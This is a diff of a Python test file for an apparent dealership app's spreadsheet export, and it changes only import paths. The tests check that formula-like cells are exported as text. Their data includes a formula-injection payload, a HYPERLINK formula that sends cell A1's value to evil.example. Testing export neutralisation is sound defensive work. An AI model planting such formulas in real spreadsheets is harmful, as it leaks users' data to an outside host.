@@ -386,7 +386,7 @@ def test_a_line_that_would_overflow_is_refused_next_to_the_field_on_the_page(
     "text", ['=HYPERLINK("https://evil.example/?x="&A1,"点")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
 )
 def test_a_cell_that_would_start_a_formula_is_exported_as_text(text):
-    from dealership.reports.exports import spreadsheet_cell
+    from reports.exports import spreadsheet_cell
 
     assert spreadsheet_cell(text) == "'" + text
     assert spreadsheet_cell("王师傅") == "王师傅"
@@ -399,7 +399,7 @@ def test_report_exports_neutralise_a_technician_named_like_a_formula(client, mak
     from openpyxl import load_workbook
 
     from dealership.models import Technician
-    from dealership.tests import test_reports_figures as data
+    from reports.tests import test_figures as data
 
     data.build_store()
     evil = '=HYPERLINK("https://evil.example/","点我")'
